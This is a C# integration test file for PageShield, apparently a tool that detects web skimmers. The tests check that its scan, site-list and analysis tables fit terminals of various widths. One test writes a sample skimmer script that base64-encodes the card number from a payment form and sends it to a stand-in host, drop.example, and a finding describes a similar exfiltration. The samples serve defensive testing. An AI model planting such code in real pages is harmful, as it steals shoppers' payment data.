using PageShield.Cli;
using PageShield.Cli.Scan;
using PageShield.Cli.Sites;
using PageShield.Crawls;
using PageShield.Detection;
using PageShield.Detection.Examination;
using PageShield.Inventory;
using PageShield.Inventory.Connections;
using PageShield.Inventory.Scripts;
using PageShield.Reports;
using PageShield.Sites;
using Spectre.Console;

namespace PageShield.IntegrationTests.Cli;

/// <summary>Tables for people fit the terminal, and nothing that is one word is broken in them.</summary>
public sealed class TableWidthTests
{
    private const string Script = "https://cdn.a-rather-long-vendor-name.example/assets/2026/11/bundles/checkout/analytics.3f2a9c71.min.js";

    [Theory]
    [InlineData(80)]
    [InlineData(120)]
    [InlineData(160)]
    public void A_scan_s_tables_fit_and_keep_verdicts_numbers_and_file_names_whole(int width)
    {
        var report = new ScanReport
        {
            Site = "https://shop.example/",
            StartedAt = DateTimeOffset.UnixEpoch,
            FinishedAt = DateTimeOffset.UnixEpoch,
            Pages =
            [
                new ScannedPage("https://shop.example/a/rather/long/path/to/a/product/that/nobody/buys/in/winter/because/it/is/cold.html", 200,
                    PageOutcome.Ok, null, ConsentOutcome.NotAsked, new Dictionary<string, string>()),
                new ScannedPage("https://shop.example/account/login", 403, PageOutcome.Blocked,
                    "The site answered 403. Allow-list the crawler's user agent, or leave this page out.", ConsentOutcome.NotAsked,
                new Dictionary<string, string>()),
            ],
            Scripts = [One(1, Script, VerdictKind.Malicious, 2), One(2, "https://shop.example/app.js", VerdictKind.Suspicious, 38),
                One(3, "https://shop.example/broken.js", VerdictKind.Unknown, 77) with { Ran = false, NotRunReason = NotRunReason.Network }],
            Connections = [],
            Cookies = [],
            Findings = [new ScannedFinding("card-fields-sent", Severity.Critical,
                "Sends what is typed into the payment form to a host that is not the form's own",
            "input values → btoa → https://collect.example/p.gif", 1, null, 14, 7)],
        };

        var text = Written(width, console => ScanTable.Write(report, console));

        foreach (var whole in new[] { "✖ malicious", "▲ suspicious", "? unknown", "critical", ".min.js", "1,234,567",
            Sha256Hash.OfText(Script).Brief, "did not run: network", "blocked", "(score: 1 malicious – 99 clean)" })
            Assert.Contains(whole, text, StringComparison.Ordinal);
        Assert.DoesNotContain(" 77 ", text, StringComparison.Ordinal);
        AssertFits(text, width);
    }

    [Theory]
    [InlineData(80)]
    [InlineData(120)]
    [InlineData(200)]
    public void The_list_of_sites_fits_and_keeps_moments_and_report_keys_whole(int width)
    {
        var at = new DateTimeOffset(2026, 11, 30, 20, 0, 0, TimeSpan.Zero);
        var site = SiteView.FromSite.Compile()(
            new Site
            {
                Id = 12,
                Name = "Harbour & Sons, purveyors of fine tea and of other things since 1871",
                Hosts = ["shop.example"],
                StartUrls = ["https://shop.example/en-gb/"],
                Cron = "0 */6 * * *",
                NextRunAt = at,
                LastCrawlAt = at.AddHours(-6),
                ReportKey =
            ReportKey.New().ToString()
            });

        var text = Written(width, console => SitesTable.Write([site], console));

        foreach (var whole in new[] { "0 */6 * * *", "2026-11-30 20:00", "2026-11-30 14:00", site.ReportKey, "https://shop.example/en-gb/",
            "Harbour & Sons" })
            Assert.Contains(whole, text, StringComparison.Ordinal);
        AssertFits(text, width);
    }

    [Theory]
    [InlineData(80)]
    [InlineData(120)]
    [InlineData(null)]
    public async Task Analyzed_files_stand_in_columns_and_sentences_are_wrapped_behind_them(int? width)
    {
        var folder = Directory.CreateTempSubdirectory("page-shield-width-");
        try
        {
            var path = Path.Combine(folder.FullName, "a.js");
            await File.WriteAllTextAsync(path, "document.querySelector('#pay').onclick = function () { new Image().src = 'https://drop.example/i.gif?c=' + btoa(document.querySelector('#card_number').value); };", TestContext.Current.CancellationToken);
            var broken = Path.Combine(folder.FullName, "b.js");
            await File.WriteAllTextAsync(broken, "function ( {{{ 'unfinished", TestContext.Current.CancellationToken);
            await using var output = new StringWriter();

            await using (var writer = AnalysisWriter.For("table", output, width))
            {
                foreach (var file in new[] { path, broken })
                    await writer.WriteAsync(
                        await AnalysisRecord.OfAsync(file, null, new ScriptExaminer(new PageShield.Detection.Intelligence.IndicatorFolder("")), null,
                        1 << 20, TestContext.Current.CancellationToken), TestContext.Current.CancellationToken);
            }

            var lines = output.ToString().ReplaceLineEndings("\n").Split('\n', StringSplitOptions.RemoveEmptyEntries);
            Assert.Equal("Score Verdict    Category       File   (score: 1 malicious – 99 clean)", lines[0]);
            Assert.Matches("^ +[0-9]+ malicious  skimmer        /", lines[1]);
            Assert.Contains(lines, line => line.StartsWith("    – unknown    ", StringComparison.Ordinal));
            foreach (var line in lines.Where(line => line.StartsWith("      ", StringComparison.Ordinal)))
            {
                Assert.True(line.Length <= (width ?? int.MaxValue), line);
                Assert.Equal(' ', line[31]);
                Assert.NotEqual(' ', line[32]);
            }
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    private static ScannedScript One(int id, string url, VerdictKind verdict, int score) => new()
    {
        Id = id,
        Url = url,
        Redirects = [],
        Kind = ScriptKind.ServiceWorker,
        AddedBy = AddedBy.Script,
        Ran = true,
        Sha256 = Sha256Hash.OfText(url),
        Bytes = 1_234_567,
        Party = Party.Third,
        Host = "cdn.example",
        Pages = [],
        Score = score,
        Verdict = verdict,
        Findings = [],
    };

    private static string Written(int width, Action<IAnsiConsole> write)
    {
        using var output = new StringWriter();
        var console = Terminal.For(output, width);
        write(console);
        return output.ToString().ReplaceLineEndings("\n");
    }

    private static void AssertFits(string text, int width) =>
        Assert.All(text.Split('\n'), line => Assert.True(line.TrimEnd().Length <= width, $"{line.Length} characters: {line}"));
}
